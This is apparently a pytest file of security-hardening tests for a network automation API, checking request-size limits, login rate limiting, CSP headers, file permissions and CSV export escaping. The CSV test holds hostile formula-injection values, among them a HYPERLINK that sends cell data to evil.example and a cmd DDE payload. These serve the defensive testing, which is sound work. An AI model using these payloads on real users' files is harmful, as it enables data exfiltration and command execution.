"""Limits and hardening (issue 13 item 7): each test is an attack or a gap closed."""

from __future__ import annotations

import csv
import io
import json
import socket
import stat
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
from fastapi.testclient import TestClient
from playwright.sync_api import Page, expect
from sqlalchemy import select

from netweave.api.app import create_app
from netweave.cli.serve import syslog_bind_host
from netweave.core.events.messages import SyslogMessage
from netweave.core.runtime import Runtime
from netweave.db.models import AuthFailure, SyslogEntry
from netweave.foundation.settings import Settings
from netweave.syslog import SyslogServer
from tests.fixtures.api import LiveApi
from tests.fixtures.browser import sign_in
from tests.fixtures.database import TEST_ADMIN_PASSWORD

CHECK = {
    "name": "Check",
    "type": "data_validation",
    "inputs": {"step": "x", "checks": [{"kind": "text", "match": "x"}]},
}


RUN = {"targets": {"devices": ["r1"]}, "wait": 30}


def _seed(admin: TestClient) -> None:
    device = {"name": "r1", "host": "127.0.0.1", "port": 22, "platform": "cisco_ios"}
    assert admin.post("/api/v1/devices", json=device).status_code == 201
    assert admin.post("/api/v1/services", json=CHECK).status_code == 201


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth - 1):
        value = {"a": value}
    return value


def _depth(value: Any) -> int:
    if isinstance(value, dict):
        return 1 + max((_depth(v) for v in value.values()), default=0)
    if isinstance(value, list):
        return 1 + max((_depth(v) for v in value), default=0)
    return 0


def test_deeply_nested_run_variables_cannot_break_the_runs_list(
    admin: TestClient, operator: TestClient, viewer: TestClient
) -> None:
    _seed(admin)
    deep = operator.post("/api/v1/run/Check", json={**RUN, "variables": _nested(300)})
    assert deep.status_code == 422, deep.text
    assert deep.json()["detail"] == "variables: Value error, nested deeper than 32 levels"
    raw = b'{"variables": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"  # beyond the parser
    too_deep = operator.post(
        "/api/v1/run/Check", content=raw, headers={"Content-Type": "application/json"}
    )
    assert 400 <= too_deep.status_code < 500, too_deep.text
    huge = operator.post("/api/v1/run/Check", json={**RUN, "variables": {"x": "y" * 300_000}})
    assert huge.status_code == 422 and "variables" in json.dumps(huge.json()["detail"])
    hook = {"name": "hook", "automation": "Check", "variables": {"data": "data"}}
    assert operator.post("/api/v1/triggers", json=hook).status_code == 201
    for path, body in (
        ("/api/v1/services", {**CHECK, "name": "Deep", "inputs": {"step": _nested(300)}}),
        (
            "/api/v1/tasks",
            {
                "name": "deep",
                "automation": "Check",
                "kind": "interval",
                "interval_seconds": 3600,
                "variables": _nested(300),
            },
        ),
        ("/api/v1/triggers/hook/fire", {"data": _nested(300)}),
        (
            "/device/exec",
            {
                "connection_args": {"host": "r1"},
                "command": "show clock",
                "driver_args": _nested(300),
            },
        ),
        (
            "/api/v1/devices/1",
            {"custom_fields": {"note": "y" * 300_000}},
        ),
    ):
        if path == "/api/v1/devices/1":
            refused = operator.patch(path, json=body)
        else:
            refused = (admin if path == "/api/v1/services" else operator).post(path, json=body)
        assert refused.status_code == 422, (path, refused.text)
        detail = refused.json()["detail"]
        assert "nested deeper than 32" in detail or "larger than 262144" in detail, detail
    # the deepest and largest value accepted is always listed back
    deepest = _nested(32)
    stored = operator.post("/api/v1/run/Check", json={**RUN, "variables": deepest})
    assert stored.status_code == 201, stored.text
    largest = {"x": "y" * (256 * 1024 - 100)}
    assert operator.post("/api/v1/run/Check", json={**RUN, "variables": largest}).status_code == 201
    listed = viewer.get("/api/v1/runs")
    assert listed.status_code == 200, listed.text
    depths = sorted(_depth(item["variables"]) for item in listed.json()["items"])
    assert depths[-1] == 32


def test_cron_that_never_fires_is_refused_not_a_server_error(
    admin: TestClient, operator: TestClient
) -> None:
    _seed(admin)
    task = {"name": "never", "automation": "Check", "kind": "cron", "cron": "0 0 31 2 *"}
    refused = operator.post("/api/v1/tasks", json=task)
    assert refused.status_code == 422, refused.text
    assert "cron" in refused.json()["detail"]
    leap = operator.post("/api/v1/tasks", json={**task, "name": "leap", "cron": "0 0 29 2 *"})
    assert leap.status_code == 201, leap.text
    assert leap.json()["next_fire_at"] is not None


def _chunks(total: int, size: int = 64 * 1024) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        part = min(size, total - sent)
        sent += part
        yield b" " * part


def test_oversized_request_bodies_are_refused_before_being_read_whole(
    runtime: Runtime, admin: TestClient
) -> None:
    limit = runtime.settings.max_body_bytes
    assert limit == 2 * 2**20
    too_big = b'{"name": "x", "description": "' + b"y" * limit + b'"}'
    declared = admin.post(
        "/api/v1/pools", content=too_big, headers={"Content-Type": "application/json"}
    )
    assert declared.status_code == 413
    assert declared.json() == {"detail": f"request body larger than {limit} bytes"}
    # chunked: no Content-Length, the streamed bytes are counted
    streamed = admin.post(
        "/api/v1/pools",
        content=_chunks(limit + 1),
        headers={"Content-Type": "application/json"},
    )
    assert "content-length" not in streamed.request.headers
    assert streamed.status_code == 413, streamed.text
    assert streamed.json()["detail"] == f"request body larger than {limit} bytes"
    # a body under the cap still works
    fine = admin.post("/api/v1/pools", json={"name": "fine", "description": "y" * 1000})
    assert fine.status_code == 201, fine.text
    # the import routes have their own larger cap
    runtime.settings.max_import_bytes = 4 * 2**20
    with TestClient(create_app(runtime), headers=dict(admin.headers)) as importer:
        document = b"# " + b"x" * (3 * 2**20) + b"\n"
        big_import = importer.post(
            "/api/v1/automations/import",
            content=document,
            headers={"Content-Type": "application/yaml"},
        )
        assert big_import.status_code != 413 and big_import.status_code < 500, big_import.text
        huge_import = importer.post(
            "/api/v1/automations/import",
            content=_chunks(4 * 2**20 + 1),
            headers={"Content-Type": "application/yaml"},
        )
        assert huge_import.status_code == 413
        huge_file = importer.post(
            "/api/v1/inventory/import",
            files={"file": ("devices.csv", b"name,host\n" + b"#" * (4 * 2**20), "text/csv")},
        )
        assert huge_file.status_code == 413


def _login(client: TestClient, username: str, password: str, **headers: str) -> int:
    answer = client.post(
        "/api/v1/auth/login", json={"username": username, "password": password}, headers=headers
    )
    return answer.status_code


def _browser(runtime: Runtime, address: str) -> TestClient:
    return TestClient(create_app(runtime), client=(address, 40000))


def test_password_guessing_from_one_address_does_not_lock_admin_out_everywhere(
    runtime: Runtime,
) -> None:
    with _browser(runtime, "203.0.113.7") as attacker, _browser(runtime, "10.1.1.1") as real:
        for attempt in range(runtime.settings.login_max_failures):
            assert _login(attacker, "admin", f"guess-{attempt}") == 401
        assert _login(attacker, "admin", "guess-again") == 429
        assert _login(real, "admin", TEST_ADMIN_PASSWORD) == 200
        # spraying many usernames from one address hits the per-address cap
        runtime.settings.login_max_failures_per_address = 8
        for n in range(8 - runtime.settings.login_max_failures - 1):
            assert _login(attacker, f"user-{n}", "password1") == 401
        assert _login(attacker, "someone-else", "password1") == 429


def test_spoofed_forwarded_for_does_not_bypass_the_login_limit(runtime: Runtime) -> None:
    limit = runtime.settings.login_max_failures
    with _browser(runtime, "198.51.100.9") as attacker:
        codes = [
            _login(attacker, "admin", "guess", **{"X-Forwarded-For": f"192.0.2.{n}"})
            for n in range(limit + 1)
        ]
        assert codes == [401] * limit + [429]
    # from a trusted proxy the header's address is believed: per client, not per proxy
    runtime.settings.trusted_proxies = ["10.9.0.0/16"]
    with _browser(runtime, "10.9.0.2") as proxy:
        for _ in range(limit):
            assert _login(proxy, "admin", "guess", **{"X-Forwarded-For": "192.0.2.50"}) == 401
        assert _login(proxy, "admin", "guess", **{"X-Forwarded-For": "192.0.2.50"}) == 429
        spoof_chain = "192.0.2.50, 192.0.2.51"  # the client added the left entry itself
        assert (
            _login(proxy, "admin", TEST_ADMIN_PASSWORD, **{"X-Forwarded-For": spoof_chain})
            == 200  # counted for 192.0.2.51, the hop the proxy saw, not the spoofed .50
        )
    with _browser(runtime, "10.9.0.2") as proxy:
        proxy.post(
            "/api/v1/auth/login",
            json={"username": "admin", "password": "wrong"},
            headers={"X-Forwarded-For": "192.0.2.77"},
        )
    with runtime.transaction() as session:
        addresses = {row.client_ip for row in session.scalars(select(AuthFailure))}
    assert "192.0.2.77" in addresses and "10.9.0.2" not in addresses
    assert "198.51.100.9" in addresses and "192.0.2.3" not in addresses  # not believed


def test_ui_and_docs_cannot_be_framed_and_run_only_this_servers_scripts(
    live_api: LiveApi, page: Page
) -> None:
    for path in ("/ui/", "/ui/devices", "/docs", "/api/v1/health", "/ui/assets/missing.js"):
        answer = httpx.get(live_api.url + path)
        csp = answer.headers.get("Content-Security-Policy", "")
        assert "frame-ancestors 'none'" in csp, path
        scripts = csp.split("script-src")[1].split(";")[0]
        assert scripts.startswith(" 'self'") and "unsafe" not in scripts, (path, csp)
        assert answer.headers["X-Frame-Options"] == "DENY", path
        assert answer.headers["Referrer-Policy"] == "same-origin", path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
    tiles = httpx.get(live_api.url + "/ui/").headers["Content-Security-Policy"]
    assert "https://tile.openstreetmap.org" in tiles.split("img-src")[1].split(";")[0]
    # in Chromium: no CSP violation on the UI or on the Swagger page, and both work
    violations: list[str] = []
    page.on(
        "console",
        lambda message: (
            violations.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    sign_in(page, live_api.url, "admin", TEST_ADMIN_PASSWORD)
    page.goto(live_api.url + "/docs")
    expect(page.locator("#swagger-ui .swagger-ui").first).to_be_attached()
    assert page.evaluate("() => typeof ui") == "object"  # its inline script ran (by hash)
    assert violations == []
    # an injected inline script would not run
    page.goto(live_api.url + "/ui/")
    ran = page.evaluate(
        """() => new Promise(resolve => {
            const s = document.createElement('script');
            s.textContent = 'window.__pwned = true';
            document.body.appendChild(s);
            setTimeout(() => resolve(window.__pwned === true), 100);
        })"""
    )
    assert ran is False


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_data_directory_and_database_are_not_readable_by_other_local_users(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    settings = Settings(mode="dev", data_dir=data, admin_password=TEST_ADMIN_PASSWORD)
    opened = Runtime.open(settings, migrate=True, bootstrap=True)
    try:
        database = data / "netweave.db"
        assert _mode(data) == 0o700
        assert _mode(database) == 0o600
        assert _mode(data / "secret.key") == 0o600
        side = [Path(f"{database}{s}") for s in ("-wal", "-shm")]
        assert any(p.exists() for p in side)
        assert all(_mode(p) == 0o600 for p in side if p.exists())
    finally:
        opened.close()
    # found looser at start (an old install, a copy): tightened
    data.chmod(0o755)
    database.chmod(0o644)
    reopened = Runtime.open(settings, migrate=False, bootstrap=False)
    try:
        assert _mode(data) == 0o700 and _mode(database) == 0o600
    finally:
        reopened.close()


def test_csv_export_cannot_inject_spreadsheet_formulas_and_round_trips(
    admin: TestClient, operator: TestClient
) -> None:
    hostile = {
        "vendor": '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "model": "+cmd|' /C calc'!A0",
        "os_version": "-2+3",
        "site": "@SUM(1)",
        "latitude": -33.9,
        "custom_fields": {"note": "=1+1", "quoted": "'=already quoted", "plain": "'x"},
    }
    device = {"name": "r1", "host": "192.0.2.1", "platform": "cisco_ios", **hostile}
    assert operator.post("/api/v1/devices", json=device).status_code == 201
    exported = admin.get("/api/v1/inventory/export", params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    (row,) = rows
    for column in ("vendor", "model", "os_version", "site", "cf_note"):
        assert row[column].startswith("'"), (column, row[column])
        assert row[column][1:2] in ("=", "+", "-", "@"), (column, row[column])
    assert row["latitude"] == "-33.9"  # a plain number is not a formula
    assert row["cf_quoted"] == "''=already quoted" and row["cf_plain"] == "'x"
    # our importer restores the original values
    (device_id,) = [d["id"] for d in admin.get("/api/v1/devices").json()["items"]]
    assert admin.delete(f"/api/v1/devices/{device_id}").status_code == 204
    imported = operator.post(
        "/api/v1/inventory/import",
        params={"format": "csv", "kind": "devices"},
        files={"file": ("devices.csv", exported.content, "text/csv")},
    )
    assert imported.status_code == 200, imported.text
    (back,) = admin.get("/api/v1/devices").json()["items"]
    for field, value in hostile.items():
        assert back[field] == value, (field, back[field])


def test_cookie_secure_setting_keeps_login_cookies_off_plain_http(runtime: Runtime) -> None:
    def cookies() -> list[str]:
        with _browser(runtime, "10.2.2.2") as browser:
            answer = browser.post(
                "/api/v1/auth/login", json={"username": "admin", "password": TEST_ADMIN_PASSWORD}
            )
            assert answer.status_code == 200
            return answer.headers.get_list("set-cookie")

    plain = cookies()
    assert len(plain) == 2 and not any("secure" in c.lower() for c in plain)
    runtime.settings.cookie_secure = True
    secure = cookies()
    assert {c.split("=", 1)[0] for c in secure} == {"netweave_session", "netweave_csrf"}
    assert all("; secure" in c.lower() for c in secure), secure


def test_syslog_flood_is_counted_capped_and_demo_listens_on_loopback_only(
    runtime: Runtime, viewer: TestClient
) -> None:
    runtime.settings.syslog_max_messages = 1000
    server = SyslogServer(runtime.events, "127.0.0.1", 0).start()
    runtime.syslog_stats = server.stats
    try:
        assert viewer.get("/api/v1/syslog/stats").json()["kernel_dropped"] == 0
        # the server is busy (its loop blocked): the kernel buffer overflows
        busy, release = threading.Event(), threading.Event()

        def block() -> None:
            busy.set()
            release.wait(30)

        loop = server.listener._loop
        assert loop is not None
        loop.call_soon_threadsafe(block)
        assert busy.wait(10)
        assert server.udp_port is not None
        datagram = b"<187>flood " + b"x" * 8000
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            for _ in range(20_000):
                sender.sendto(datagram, ("127.0.0.1", server.udp_port))
                if server.listener.kernel_dropped():
                    break
        release.set()
        stats = viewer.get("/api/v1/syslog/stats").json()
        assert stats["kernel_dropped"] > 0, stats
    finally:
        server.stop()
    # storage is capped: the oldest messages go first
    now = datetime.now(UTC)
    runtime.events.ingest(
        [
            SyslogMessage(
                facility=23,
                severity=6,
                message=f"m{n}",
                hostname="r1",
                program="TEST",
                source="127.0.0.1",
                received_at=now,
            )
            for n in range(1200)
        ]
    )
    runtime.events.purge()
    with runtime.transaction() as session:
        kept = list(session.scalars(select(SyslogEntry.message).order_by(SyslogEntry.id)))
    assert len(kept) == 1000
    assert kept[-1] == "m1199" and "m0" not in kept
    # the demo receives syslog on loopback only; production keeps its setting
    assert syslog_bind_host(Settings(mode="demo")) == "127.0.0.1"
    assert syslog_bind_host(Settings(mode="demo", syslog_host="0.0.0.0")) == "0.0.0.0"
    assert syslog_bind_host(Settings()) == "0.0.0.0"
